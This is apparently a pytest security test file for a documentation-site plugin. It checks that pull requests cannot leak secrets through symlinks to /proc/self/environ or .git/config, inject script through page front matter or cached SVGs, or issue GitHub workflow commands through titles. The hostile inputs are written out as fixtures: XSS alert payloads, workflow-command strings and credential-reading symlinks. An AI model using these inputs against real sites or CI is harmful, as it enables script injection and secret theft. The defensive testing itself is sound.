"""Trust: what a pull request can do to the site, CI and CODEOWNERS (issue 13)

1. Symlinks: test_symlinks_out_of_the_docs_folder_or_into_git_are_refused_by_check_and_build, test_a_symlink_to_a_file_inside_the_docs_folder_is_accepted, test_a_file_name_with_a_line_break_is_refused
2. Stored script through a plain page: test_script_in_a_plain_pages_front_matter_and_body_never_reaches_the_page, test_allow_raw_html_keeps_the_body_but_still_escapes_the_front_matter, test_no_alert_fires_in_a_browser_on_the_hostile_page
3. Poisoned diagram cache: test_a_poisoned_diagram_cache_cannot_put_script_into_pages, test_an_oversized_cache_entry_is_not_inlined_and_the_diagram_is_drawn_again
4. Workflow commands through the build log: test_a_title_cannot_issue_workflow_commands_through_the_build_log, test_check_prints_no_workflow_command_from_a_title, test_a_terminal_escape_in_a_title_is_a_schema_error_printed_without_the_escape
5. The reminder issue: test_the_reminder_issue_mentions_only_valid_handles_and_opens_no_heading, test_the_reminder_issue_of_thousands_of_overdue_pages_stays_under_githubs_limit
6. CODEOWNERS: test_codeowners_escapes_spaces_in_file_names, test_codeowners_starts_with_a_rule_for_every_path
7. Workflows: test_zizmor_reports_no_findings, test_every_action_is_pinned_to_a_commit, test_permissions_are_granted_per_job, test_checkout_does_not_persist_credentials, test_no_run_step_expands_an_expression, test_the_diff_comment_reads_from_runner_temp_and_finds_its_own_comment
8. A hanging, failing or flooding dot: test_a_hanging_dot_costs_one_deadline_and_pages_show_the_source, test_a_failing_dot_warns_once_per_diagram_and_is_not_run_again, test_a_dot_that_writes_too_much_svg_is_not_inlined
9. Smaller ones: test_new_refuses_an_id_with_a_line_break_and_writes_nothing, test_new_writes_a_page_with_the_usual_file_mode, test_mark_accepts_a_tab_after_a_colon, test_mark_never_overwrites_an_edit_saved_while_it_worked, test_a_capitalised_kind_key_is_an_unknown_kind_error, test_implausible_and_future_review_dates, test_a_code_block_showing_journeysite_markers_is_shown_as_written, test_check_and_build_agree_on_excluded_docs, test_check_and_build_agree_on_a_folder_link_inside_docs, test_check_and_build_agree_on_a_control_character_in_a_title
"""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
from pathlib import Path

import pytest
import yaml
from browser_support import (
    ROOT,
    article,
    build_env,
    mkdocs_build,
    offline_tab,
    open_page,
    parse_html,
    serve,
    tree_hashes,
)
from conftest import BIN, DEFAULT_CONFIG, codes, installed_tool, invoke_cli
from small_handbook import clean

JOURNEYSITE = str(BIN / "journeysite")
MAX_PAGE_BYTES = 2 * 1024 * 1024


@pytest.fixture(autouse=True)
def no_surrounding_repository(tmp_path, monkeypatch):
    """Keep git from finding a repository above the test's folder (in-process and in subprocesses)."""
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))


def require_dot() -> None:
    if shutil.which("dot"):
        return
    message = "Graphviz's dot is missing: install Graphviz (sudo apt-get install graphviz)"
    if os.environ.get("CI"):
        pytest.fail(message)
    pytest.skip(message)


def output(done: subprocess.CompletedProcess[str]) -> str:
    return done.stdout + done.stderr


def site_texts(site: Path) -> dict[str, str]:
    """Every file of a built site as text (undecodable bytes replaced), by relative path."""
    if not site.exists():
        return {}
    return {p.relative_to(site).as_posix(): p.read_bytes().decode("utf-8", "replace")
            for p in sorted(site.rglob("*")) if p.is_file()}


def script_in_html(text: str) -> list[str]:
    """What could run script in an HTML page: event-handler attributes, javascript: URLs, script
    elements holding an alert."""
    found: list[str] = []
    tree = parse_html(text)
    for element in tree.elements():
        for name, value in element.attrs.items():
            if name.lower().startswith("on"):
                found.append(f"<{element.tag} {name}={value!r}>")
            if name.lower() in ("href", "src", "xlink:href", "action", "formaction") and \
                    value.strip().lower().startswith("javascript:"):
                found.append(f"<{element.tag} {name}={value!r}>")
        if element.tag == "script" and "alert" in "".join(c for c in element.children if isinstance(c, str)):
            found.append("<script>alert…</script>")
    return found


def config_text(options: str = "", extra: str = "") -> str:
    """conftest's mkdocs.yml, with plugin options (YAML lines) and extra top-level settings."""
    indented = "".join(f"\n      {line}" for line in options.strip().splitlines()) if options else ""
    return DEFAULT_CONFIG.format(options=(":" + indented) if options else "") + extra


def executable(path: Path, script: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(script, encoding="utf-8")
    path.chmod(path.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    return path


def env_with_bin(bin_dir: Path) -> dict[str, str]:
    return build_env(PATH=f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}")


def warnings(done: subprocess.CompletedProcess[str]) -> list[str]:
    return [line for line in output(done).splitlines() if line.startswith("WARNING")]


def current_umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


# ---- 1. symlinks -----------------------------------------------------------------------------------------------


TEAM = "---\nkind: team\ntitle: Support\n---\n"


def test_symlinks_out_of_the_docs_folder_or_into_git_are_refused_by_check_and_build(project):
    hb = project()
    hb.write("teams/support.md", TEAM)
    (hb.root / ".git").mkdir()
    (hb.root / ".git" / "config").write_text('[remote "origin"]\n\turl = https://x:SECRET-TOKEN@github.com/a/b\n',
                                             encoding="utf-8")
    vendor_git = hb.docs / "vendor" / ".git"
    vendor_git.mkdir(parents=True)
    (vendor_git / "config").write_text("token = SECRET-TOKEN\n", encoding="utf-8")
    (hb.docs / "notes.md").symlink_to("../.git/config")
    (hb.docs / "env.txt").symlink_to("/proc/self/environ")
    (hb.docs / "etc").symlink_to("/etc", target_is_directory=True)
    (hb.docs / "vendor-config.txt").symlink_to("vendor/.git/config")
    links = ["env.txt", "etc", "notes.md", "vendor-config.txt"]

    exit_code, data = hb.check_json()
    assert exit_code == 1
    unsafe = [d for d in data["diagnostics"] if d["code"] == "unsafe-file"]
    assert sorted(d["file"] for d in unsafe) == links, "one error per link, the folder link once"
    assert all(d["severity"] == "error" and d["line"] == 1 for d in unsafe), unsafe

    done = hb.build("--strict")
    assert done.returncode != 0, output(done)
    for link in links:
        assert link in output(done), f"the build does not name {link}:\n{output(done)}"
    leaked = [path for path, text in site_texts(hb.root / "site").items() if "SECRET-TOKEN" in text]
    assert leaked == [], f"the site published the secret in {leaked}"


def test_a_symlink_to_a_file_inside_the_docs_folder_is_accepted(project):
    hb = project()
    hb.write("teams/support.md", TEAM)
    (hb.docs / "logo.txt").write_text("LOGO-CONTENT\n", encoding="utf-8")
    (hb.docs / "logo-link.txt").symlink_to("logo.txt")
    exit_code, data = hb.check_json()
    assert exit_code == 0, data["diagnostics"]
    assert "unsafe-file" not in codes(data)
    done = hb.build("--strict")
    assert done.returncode == 0, output(done)
    assert (hb.root / "site" / "logo-link.txt").read_text(encoding="utf-8") == "LOGO-CONTENT\n"


def test_a_file_name_with_a_line_break_is_refused(project):
    hb = project()
    hb.write("teams/support.md", TEAM)
    (hb.docs / "bad\nname.md").write_text("# Bad\n", encoding="utf-8")
    exit_code, data = hb.check_json()
    assert exit_code == 1
    [error] = [d for d in data["diagnostics"] if d["code"] == "unsafe-file"]
    assert "\n" not in error["file"] and "bad" in error["file"] and "name.md" in error["file"]
    assert error["severity"] == "error" and error["line"] == 1
    done = hb.build("--strict")
    assert done.returncode != 0
    assert not any(line.startswith("name.md") for line in output(done).splitlines()), output(done)


# ---- 2. stored script through a plain page ---------------------------------------------------------------------


HOSTILE_PAGE = """\
---
description: '"><img src=x onerror=alert(1)>'
author: '<script>alert(2)</script>'
---

# Notes

<img src=x onerror="alert(3)">

<script>alert(4)</script>

<a href="javascript:alert(5)">x</a>

Some **bold** text.

!!! note
    An admonition.
"""
ESCAPED_DESCRIPTION = 'content="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"'
ADMONITION = "markdown_extensions:\n  - admonition\n"


def hostile_site(project, options: str = "") -> tuple[Path, str]:
    hb = project(config=config_text(options, ADMONITION))
    hb.write("notes.md", HOSTILE_PAGE)
    done = hb.build("--strict")
    assert done.returncode == 0, output(done)
    return hb.root / "site", (hb.root / "site" / "notes" / "index.html").read_text(encoding="utf-8")


def description_meta(text: str) -> str:
    [meta] = re.findall(r'<meta name="description"[^>]*>', text)
    return meta


def test_script_in_a_plain_pages_front_matter_and_body_never_reaches_the_page(project):
    site, text = hostile_site(project)
    assert ESCAPED_DESCRIPTION in description_meta(text)
    assert script_in_html(text) == []
    rest = text.replace(ESCAPED_DESCRIPTION, "")
    assert "onerror" not in rest
    assert "<script>alert" not in text and "javascript:" not in text
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in text  # the author, as text
    content = article(site, "notes/index.html")
    assert [s.text() for s in content.find_all("strong")] == ["bold"]
    assert content.find("div", "admonition") is not None, "the admonition still renders"


def test_allow_raw_html_keeps_the_body_but_still_escapes_the_front_matter(project):
    _, text = hostile_site(project, "allow_raw_html: true")
    assert re.search(r'<img src="?x"? onerror="alert\(3\)"', text), "the author opted in to raw HTML"
    assert ESCAPED_DESCRIPTION in description_meta(text)
    assert "<script>alert(2)" not in text, "the author meta is still escaped"


@pytest.mark.browser
def test_no_alert_fires_in_a_browser_on_the_hostile_page(project, browser, tmp_path):
    site, _ = hostile_site(project)
    # The control: the same page with raw HTML allowed does fire alerts, so the listener works.
    raw = tmp_path / "raw"
    raw.mkdir()
    (raw / "mkdocs.yml").write_text(config_text("allow_raw_html: true", ADMONITION), encoding="utf-8")
    shutil.copytree(site.parent / "docs", raw / "docs")
    done = mkdocs_build(raw, "--strict")
    assert done.returncode == 0, output(done)

    def dialogs_on(folder: Path) -> list[str]:
        with serve(folder) as url, offline_tab(browser) as tab:
            seen: list[str] = []

            def record(dialog) -> None:
                seen.append(dialog.message)
                dialog.dismiss()

            tab.on("dialog", record)
            open_page(tab, url, "notes/")
            tab.wait_for_load_state("networkidle")
            return seen

    assert dialogs_on(site) == []
    assert dialogs_on(raw / "site"), "the control page (allow_raw_html) fired no alert: the check is blind"


# ---- 3. poisoned diagram cache ---------------------------------------------------------------------------------


POISON = ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
          '<a href="javascript:alert(2)"><text onclick="alert(3)">x</text></a></svg>')
DIAGRAM_PAGES = ["journey/index.html", "stages/onboarding/index.html", "teams/customer-success/index.html"]


def cached_svgs(root: Path) -> list[Path]:
    return sorted((root / ".cache" / "plugin" / "journeysite").glob("*.svg"))


def diagrams_of(site: Path, relative: str) -> list:
    return article(site, relative).find_all("figure", "jsite-diagram")


def test_a_poisoned_diagram_cache_cannot_put_script_into_pages(project):
    require_dot()
    hb = clean(project)
    first = mkdocs_build(hb.root, "--strict")
    assert first.returncode == 0, output(first)
    svgs = cached_svgs(hb.root)
    assert svgs, "the build cached no diagram"
    for svg in svgs:
        svg.write_text(POISON, encoding="utf-8")
    again = mkdocs_build(hb.root, "--strict")
    assert again.returncode == 0, output(again)
    site = hb.root / "site"
    for relative in DIAGRAM_PAGES:  # the poisoned SVG is what the pages show now, cleaned
        [figure] = diagrams_of(site, relative)
        assert figure.find("svg").text().endswith("x"), f"{relative} did not use the cached SVG"
    for relative, text in site_texts(site).items():
        if relative.endswith(".html"):
            for bad in ("<script>alert", "javascript:", "onclick"):
                assert bad not in text, f"{relative} holds {bad!r}"
            assert script_in_html(text) == [], relative


def test_an_oversized_cache_entry_is_not_inlined_and_the_diagram_is_drawn_again(project):
    require_dot()
    hb = clean(project)
    assert mkdocs_build(hb.root, "--strict").returncode == 0
    padding = '<svg xmlns="http://www.w3.org/2000/svg">' + "<svg>" * (6 * 1024 * 1024 // 5) + "</svg>"
    for svg in cached_svgs(hb.root):
        svg.write_text(padding, encoding="utf-8")
    again = mkdocs_build(hb.root, "--strict")
    assert again.returncode == 0, output(again)
    site = hb.root / "site"
    for path in site.rglob("*.html"):
        assert path.stat().st_size < MAX_PAGE_BYTES, f"{path.relative_to(site)} is {path.stat().st_size} bytes"
    [figure] = diagrams_of(site, "journey/index.html")
    assert "Onboarding" in figure.find("svg").text(), "the journey diagram is drawn again by dot"
    assert all(svg.stat().st_size < 1024 * 1024 for svg in cached_svgs(hb.root)), "the cache holds the new SVG"


# ---- 4. workflow commands and terminal escapes through the logs --------------------------------------------------


INJECTED_TITLE = r'"Support\n::warning file=mkdocs.yml,line=1::X\n::add-mask::Y\n::stop-commands::z"'


def injected_handbook(project):
    """Two stages owned by two teams and no handoff between them: a missing-handoff warning names both
    teams' titles, one of which holds workflow commands on lines of their own."""
    hb = project()
    hb.write("teams/support.md", f"---\nkind: team\ntitle: {INJECTED_TITLE}\n---\n")
    hb.write("teams/sales.md", "---\nkind: team\ntitle: Sales\n---\n")
    hb.write("stages/buy.md", "---\nkind: stage\ntitle: Buy\nowner: sales\norder: 1\n---\n")
    hb.write("stages/help.md", "---\nkind: stage\ntitle: Help\nowner: support\norder: 2\n---\n")
    return hb


def command_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.lstrip().startswith("::")]


def test_a_title_cannot_issue_workflow_commands_through_the_build_log(project):
    hb = injected_handbook(project)
    done = mkdocs_build(hb.root)
    assert done.returncode == 0, output(done)
    assert "missing-handoff" in output(done), "no warning named the team: the test proves nothing"
    assert "add-mask" in output(done)
    assert command_lines(output(done)) == []


def test_check_prints_no_workflow_command_from_a_title(project):
    hb = injected_handbook(project)
    run = hb.check()
    assert "add-mask" in run.stdout, run.stdout
    assert command_lines(run.stdout + run.stderr) == []
    # The annotations format writes workflow commands on purpose: one per diagnostic, none from a title.
    annotations = hb.check("--format", "github").stdout.splitlines()
    assert annotations and all(re.match(r"::(error|warning|notice) file=", line) for line in annotations), annotations


def test_capacity_prints_no_workflow_command_from_a_title(project):
    """Titles start the lines of `journeysite capacity`: neither a
    `::` command nor the older `##[` form may survive there."""
    hb = project()
    hb.write("teams/t2.md", '---\nkind: team\ntitle: "::error title=Injected::T2 ##[error]x"\nheadcount: 1\n---\n')
    hb.write("segments/s.md", '---\nkind: segment\ntitle: "::add-mask::S"\nowner: t2\ntouch: high\naccounts: 5\n---\n')
    hb.write("stages/a.md", "---\nkind: stage\ntitle: A\nowner: t2\norder: 1\n---\n")
    hb.write(
        "playbooks/p.md",
        "---\nkind: playbook\ntitle: P\nowner: t2\ntype: lifecycle\nstages: [a]\ntrigger: {manual: x}\n"
        'steps:\n  - do: "::warning::do it ##[group]"\n    effort: 1 hour\n---\n',
    )
    run = invoke_cli(hb.root, "capacity")
    shown = run.stdout + run.stderr
    assert "Injected" in shown and "add-mask" in shown and "do it" in shown, shown
    assert command_lines(shown) == [] and "##[" not in shown, shown


def test_a_terminal_escape_in_a_title_is_a_schema_error_printed_without_the_escape(project):
    hb = project()
    hb.write("teams/support.md", '---\nkind: team\ntitle: "Sup\\x1b[31mport"\n---\n')
    run = hb.check()
    assert run.exit_code == 1
    assert "\x1b" not in run.stdout + run.stderr
    assert "schema" in run.stdout
    _, data = hb.check_json()
    [error] = [d for d in data["diagnostics"] if d["code"] == "schema"]
    assert error["file"] == "teams/support.md" and "title" in error["message"]
    assert "\x1b" not in error["message"]


# ---- 5. the reminder issue -------------------------------------------------------------------------------------


HOSTILE_HANDLES = '---\nkind: team\ntitle: Customer Success\ngithub: ["@lumen/cs", "x\\n\\n# Injected @lumen/everyone"]\n---\n'


def overdue_metric(number: int) -> str:
    return (f"---\nkind: metric\ntitle: Weekly active accounts, region {number:05d}\nowner: cs\n"
            "definition: d\nreviewed: 2020-01-01\n---\n")


def review(hb, *args: str):
    return invoke_cli(hb.root, "review", "--today", "2026-12-01", *args)


def test_the_reminder_issue_mentions_only_valid_handles_and_opens_no_heading(project):
    hb = project()
    hb.write("teams/cs.md", HOSTILE_HANDLES)
    hb.write("metrics/active.md", overdue_metric(1))
    result = review(hb, "--format", "markdown")
    assert result.exit_code == 0, result.stderr
    body = result.stdout
    assert "Weekly active accounts" in body
    assert not any(line.lstrip().startswith("# Injected") for line in body.splitlines()), body
    assert "@lumen/cs" in body
    assert "@lumen/everyone" not in body, body  # "@\u200blumen/everyone" (no mention) would be fine


def test_the_reminder_issue_of_thousands_of_overdue_pages_stays_under_githubs_limit(project):
    hb = project()
    hb.write("teams/cs.md", HOSTILE_HANDLES)
    metrics = hb.docs / "metrics"
    metrics.mkdir()
    pages = 4_871
    for number in range(pages):
        (metrics / f"m{number:05d}.md").write_text(overdue_metric(number), encoding="utf-8")
    result = review(hb, "--format", "markdown")
    assert result.exit_code == 0, result.stderr
    body = result.stdout
    assert len(body) < 60_000, f"the issue body is {len(body)} characters"
    assert "@lumen/cs" in body and "@lumen/everyone" not in body
    listed = json.loads(review(hb, "--format", "json").stdout)["pages"]
    assert len(listed) >= pages  # the JSON still lists every page (the team page is due too: never reviewed)
    [more] = [line for line in body.splitlines() if "more page" in line and "to review" in line]
    rows = [line for line in body.splitlines() if line.startswith("| [")]
    assert int(re.search(r"\d+", more).group()) + len(rows) == len(listed), (more, len(rows), len(listed))


# ---- 6. CODEOWNERS ---------------------------------------------------------------------------------------------


def owners_handbook(project):
    hb = project()
    hb.write("teams/customer-success.md", "---\nkind: team\ntitle: Customer Success\ngithub: ['@acme/cs']\n---\n")
    hb.write("mission.md", "---\nkind: mission\ntitle: Mission\nowner: customer-success\nstatement: Help.\n---\n")
    return hb


def test_codeowners_escapes_spaces_in_file_names(project):
    hb = owners_handbook(project)
    hb.write("my stages/go live.md", "---\nkind: stage\nid: go-live\ntitle: Go live\nowner: customer-success\norder: 1\n---\n")
    result = invoke_cli(hb.root, "codeowners")
    assert result.exit_code == 0, result.stderr
    assert "/docs/my\\ stages/go\\ live.md @acme/cs" in result.stdout.splitlines(), result.stdout


def test_codeowners_starts_with_a_rule_for_every_path(project):
    hb = owners_handbook(project)
    hb.write("guide.md", "# A plain page\n")
    result = invoke_cli(hb.root, "codeowners")
    assert result.exit_code == 0, result.stderr
    rules = [line for line in result.stdout.splitlines() if line.strip() and not line.startswith("#")]
    assert rules[0] == "* @acme/cs", result.stdout
    assert all(line.startswith("/docs/") for line in rules[1:]), rules


# ---- 7. the workflows ------------------------------------------------------------------------------------------


WORKFLOW_DIR = ROOT / ".github" / "workflows"
WORKFLOWS = sorted(WORKFLOW_DIR.glob("*.yml"))
SHA_PIN = re.compile(r"[^@\s]+@[0-9a-f]{40}")


def load_workflow(path: Path) -> dict:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def steps_of(document: dict):
    for job_id, job in document["jobs"].items():
        for step in job.get("steps", []) or []:
            yield job_id, step


def test_zizmor_reports_no_findings():
    done = subprocess.run([installed_tool("zizmor", "zizmor"), "--offline", "--no-progress", str(WORKFLOW_DIR)],
                          capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert done.returncode == 0, output(done)
    assert "No findings to report" in done.stdout, output(done)


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_every_action_is_pinned_to_a_commit(workflow):
    document = load_workflow(workflow)
    uses = [step["uses"] for _, step in steps_of(document) if "uses" in step]
    uses += [job["uses"] for job in document["jobs"].values() if "uses" in job]
    unpinned = [u for u in uses if not u.startswith("./") and not SHA_PIN.fullmatch(u)]
    assert unpinned == [], f"{workflow.name}: not pinned to a 40-hex commit SHA: {unpinned}"


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_permissions_are_granted_per_job(workflow):
    document = load_workflow(workflow)
    assert document.get("permissions", {}) in ({}, None), \
        f"{workflow.name}: top-level permissions {document.get('permissions')!r}: grant them per job"
    without = [job_id for job_id, job in document["jobs"].items() if "permissions" not in job]
    assert without == [], f"{workflow.name}: jobs without their own permissions: {without}"


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_checkout_does_not_persist_credentials(workflow):
    for job_id, step in steps_of(load_workflow(workflow)):
        if str(step.get("uses", "")).startswith("actions/checkout@"):
            persisted = (step.get("with") or {}).get("persist-credentials")
            assert persisted in (False, "false"), \
                f"{workflow.name} job {job_id}: checkout without persist-credentials: false"


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_no_run_step_expands_an_expression(workflow):
    for job_id, step in steps_of(load_workflow(workflow)):
        assert "${{" not in str(step.get("run", "")), \
            f"{workflow.name} job {job_id} step {step.get('name')!r}: pass expressions through env, not run"


def test_the_diff_comment_reads_from_runner_temp_and_finds_its_own_comment():
    document = load_workflow(WORKFLOW_DIR / "check.yml")
    scripts = [(step.get("with") or {}).get("script", "") for _, step in steps_of(document)
               if str(step.get("uses", "")).startswith("actions/github-script@")]
    assert len(scripts) == 1, f"expected one github-script step, found {len(scripts)}"
    [script] = scripts
    assert "RUNNER_TEMP" in script, "the comment must be read from $RUNNER_TEMP, not the pull request's workspace"
    literal = re.findall(r"readFileSync\(\s*(['\"`][^'\"`]*['\"`])", script)
    assert literal == [], f"the script reads a file by a workspace path: {literal}"
    assert "journeysite-diff" in script and "github-actions[bot]" in script, \
        "the sticky comment must be found by its marker and its author"
    writers = [str(step.get("run", "")) for _, step in steps_of(document) if "journeysite diff" in str(step.get("run", ""))]
    assert writers and all("RUNNER_TEMP" in run for run in writers), writers


# ---- 8. a hanging, failing or flooding dot ------------------------------------------------------------------------


VERSION = 'if [ "$1" = "-V" ]; then echo "dot - graphviz version 2.43.0 (0)" >&2; exit 0; fi\n'


def test_a_hanging_dot_costs_one_deadline_and_pages_show_the_source(project, tmp_path):
    hb = clean(project, options="dot_deadline: 2")
    executable(tmp_path / "bin" / "dot", "#!/bin/sh\n" + VERSION + "exec sleep 30\n")
    done = mkdocs_build(hb.root, env=env_with_bin(tmp_path / "bin"))
    assert done.returncode == 0, output(done)
    deadline = [line for line in warnings(done) if "dot_deadline" in line]
    assert len(deadline) == 1, warnings(done)
    site = hb.root / "site"
    for relative in DIAGRAM_PAGES:
        content = article(site, relative)
        source = content.find(cls="jsite-diagram-source")
        assert source is not None and "digraph" in source.text(), f"{relative} does not show the DOT source"
        assert content.find("figure", "jsite-diagram") is None, f"{relative} still has a drawn diagram"


def test_a_failing_dot_warns_once_per_diagram_and_is_not_run_again(project, tmp_path):
    hb = clean(project)
    runs = tmp_path / "runs.log"
    executable(tmp_path / "bin" / "dot", "#!/bin/sh\n" + VERSION
               + f"cat > /dev/null\necho run >> '{runs}'\necho 'Error: syntax error' >&2\nexit 1\n")
    env = env_with_bin(tmp_path / "bin")
    first = mkdocs_build(hb.root, env=env)
    assert first.returncode == 0, output(first)
    failed = [line for line in warnings(first) if "could not be drawn" in line]
    started = runs.read_text(encoding="utf-8").splitlines()
    assert len(failed) == len(started) == len(DIAGRAM_PAGES), (started, warnings(first))
    runs.write_text("", encoding="utf-8")
    second = mkdocs_build(hb.root, env=env)
    assert second.returncode == 0, output(second)
    assert runs.read_text(encoding="utf-8") == "", "the failures were not cached: dot ran again"


def test_a_dot_that_writes_too_much_svg_is_not_inlined(project, tmp_path):
    hb = clean(project)
    executable(tmp_path / "bin" / "dot", "#!/bin/sh\n" + VERSION
               + "cat > /dev/null\nprintf '<svg>'\nyes '<svg>' | head -c 6000000\nprintf '</svg>'\n")
    done = mkdocs_build(hb.root, env=env_with_bin(tmp_path / "bin"))
    assert done.returncode == 0, output(done)
    too_large = [line for line in warnings(done) if "could not be drawn" in line and "5 MB" in line]
    assert too_large, warnings(done)
    site = hb.root / "site"
    for path in site.rglob("*"):
        if path.is_file():
            assert path.stat().st_size < MAX_PAGE_BYTES, f"{path.relative_to(site)} is {path.stat().st_size} bytes"


# ---- 9. smaller ones -------------------------------------------------------------------------------------------


def test_new_refuses_an_id_with_a_line_break_and_writes_nothing(project):
    hb = project()
    before = tree_hashes(hb.root)
    result = invoke_cli(hb.root, "new", "playbook", "x\n")
    assert result.exit_code == 2, result.output
    assert tree_hashes(hb.root) == before
    assert "\n" not in result.stderr.rstrip("\n")


def test_new_writes_a_page_with_the_usual_file_mode(project):
    hb = project()
    result = invoke_cli(hb.root, "new", "team", "support")
    assert result.exit_code == 0, result.stderr
    written = hb.docs / "teams" / "support.md"
    assert stat.S_IMODE(written.stat().st_mode) == 0o666 & ~current_umask()


def test_mark_accepts_a_tab_after_a_colon(project):
    hb = project()
    before = "---\nkind: team\ntitle: Support\nlead:\tAna\nreviewed: 2026-01-01\n---\n\nThe team.\n"
    page = hb.write("teams/support.md", before)
    result = invoke_cli(hb.root, "review", "--mark", "docs/teams/support.md", "--today", "2026-12-01")
    assert result.exit_code == 0, result.output
    assert page.read_text(encoding="utf-8") == before.replace("reviewed: 2026-01-01", "reviewed: 2026-12-01")


def test_mark_never_overwrites_an_edit_saved_while_it_worked(project):
    """`review --mark` reads the page, edits it, and replaces it with a rename: if someone saved the page
    in between, the rename would lose their edit. The write checks the file still holds what was read."""
    from journeysite.core import writing

    hb = project()
    page = hb.write("teams/support.md", "---\nkind: team\ntitle: Support\n---\n")
    read = page.read_bytes()
    page.write_text("---\nkind: team\ntitle: Support desk\n---\n", encoding="utf-8")  # saved meanwhile
    with pytest.raises(writing.Changed):
        writing.replace_file(page, read.replace(b"---\n", b"reviewed: 2026-12-01\n---\n"), expected=read)
    assert "Support desk" in page.read_text(encoding="utf-8")
    assert [p.name for p in page.parent.iterdir()] == ["support.md"]  # no temporary file left


def test_a_capitalised_kind_key_is_an_unknown_kind_error(project):
    hb = project()
    hb.write("playbooks/welcome.md", "---\ntitle: Welcome\nKind: playbook\n---\n")
    exit_code, data = hb.check_json()
    assert exit_code == 1
    [error] = [d for d in data["diagnostics"] if d["code"] == "unknown-kind"]
    assert (error["file"], error["line"], error["severity"]) == ("playbooks/welcome.md", 3, "error")


def test_implausible_and_future_review_dates(project):
    hb = project()
    hb.write("teams/support.md", "---\nkind: team\ntitle: Support\nreviewed: 0000-01-01\n---\n")
    hb.write("teams/sales.md", "---\nkind: team\ntitle: Sales\nreviewed: 2099-01-01\n---\n")
    exit_code, data = hb.check_json()
    assert exit_code == 1
    by_file = {}
    for d in data["diagnostics"]:
        by_file.setdefault(d["file"], []).append((d["code"], d["severity"], d["line"]))
    assert ("schema", "error", 4) in by_file["teams/support.md"], by_file
    assert ("reviewed-in-future", "warning", 4) in by_file["teams/sales.md"], by_file

    hb.write("teams/support.md", "---\nkind: team\ntitle: Support\n---\n")
    exit_code, data = hb.check_json()
    assert exit_code == 0 and "reviewed-in-future" in codes(data)
    assert hb.check("--strict").exit_code == 1


def test_a_code_block_showing_journeysite_markers_is_shown_as_written(project):
    hb = project()
    hb.write("markup.md", "# Markup\n\n```html\n<!--jsite:html-->\n<p>x</p>\n<!--/jsite:html-->\n```\n")
    done = hb.build("--strict")
    assert done.returncode == 0, output(done)
    content = article(hb.root / "site", "markup/index.html")
    code = content.find("code")
    assert code is not None and code.text() == "<!--jsite:html--> <p>x</p> <!--/jsite:html-->"
    assert [p.text() for p in content.find_all("p")] == [], "the marked HTML was taken out of the code block"


@pytest.mark.parametrize("setting", ["exclude_docs", "draft_docs"])
def test_check_and_build_agree_on_excluded_docs(project, setting):
    """MkDocs leaves `exclude_docs` out of every build and `draft_docs` out of `mkdocs build`."""
    hb = project(config=config_text(extra=f"{setting}: |\n  drafts/\n"))
    hb.write("teams/support.md", TEAM)
    hb.write("drafts/broken.md", "---\nkind: team\ntitle: [unclosed\n---\n")
    run = hb.check("--strict")
    assert run.exit_code == 0, run.stdout
    done = hb.build("--strict")
    assert done.returncode == 0, output(done)


def test_check_and_build_agree_on_a_folder_link_inside_docs(project):
    hb = project()
    hb.write("extra/page.md", "# Extra page\n")
    (hb.docs / "more").symlink_to("extra", target_is_directory=True)
    run = hb.check("--strict")
    assert run.exit_code == 0, run.stdout
    assert "3 pages" in run.stdout, run.stdout  # index.md, extra/page.md and more/page.md
    done = hb.build("--strict")
    assert done.returncode == 0, output(done)
    assert (hb.root / "site" / "more" / "page" / "index.html").is_file()
    assert (hb.root / "site" / "extra" / "page" / "index.html").is_file()


def test_check_and_build_agree_on_a_control_character_in_a_title(project):
    hb = project()
    hb.write("teams/support.md", '---\nkind: team\ntitle: "Sup\\x01port"\n---\n')
    run = hb.check("--strict")
    assert run.exit_code == 1
    _, data = hb.check_json()
    schema_errors = [d for d in data["diagnostics"] if d["code"] == "schema" and d["severity"] == "error"]
    assert any("`title`" in d["message"] for d in schema_errors), data["diagnostics"]
    done = hb.build("--strict")
    assert done.returncode != 0, output(done)
    assert "teams/support.md" in output(done)


# ---- found in review: what the first round of fixes let through ---------------------------------------------


def test_cache_entries_that_are_links_are_never_read(project, tmp_path):
    """A pull request can commit `.cache/plugin/journeysite/<hash>.svg` as a link to a secret (the hash is
    predictable) or to /dev/zero: the build reads only regular files, so neither is published nor read."""
    require_dot()
    hb = clean(project)
    assert mkdocs_build(hb.root, "--strict").returncode == 0
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-TOKEN", encoding="utf-8")
    for index, svg in enumerate(cached_svgs(hb.root)):
        svg.unlink()
        svg.symlink_to(secret if index % 2 else Path("/dev/zero"))
    again = mkdocs_build(hb.root, "--strict", timeout=120)
    assert again.returncode == 0, output(again)
    assert not [p for p, text in site_texts(hb.root / "site").items() if "SECRET-TOKEN" in text]
    assert all(diagrams_of(hb.root / "site", relative) for relative in DIAGRAM_PAGES)  # drawn again


def test_a_cache_folder_that_is_a_link_is_left_alone_and_said(project, tmp_path):
    """A linked cache folder would have the build prune (delete) files wherever it points."""
    require_dot()
    hb = clean(project)
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.svg").write_text("<svg/>", encoding="utf-8")
    (hb.root / ".cache" / "plugin").mkdir(parents=True)
    (hb.root / ".cache" / "plugin" / "journeysite").symlink_to(victim)
    done = mkdocs_build(hb.root)
    assert done.returncode == 0, output(done)
    assert (victim / "keep.svg").exists() and [p.name for p in victim.iterdir()] == ["keep.svg"]
    assert any("symbolic link" in line and "cache" in line for line in warnings(done)), output(done)


@pytest.mark.parametrize("name", ["<img src=x onerror=alert(1)>.md", '<svg onload=alert(2)>/page.md', 'say "hi".md'])
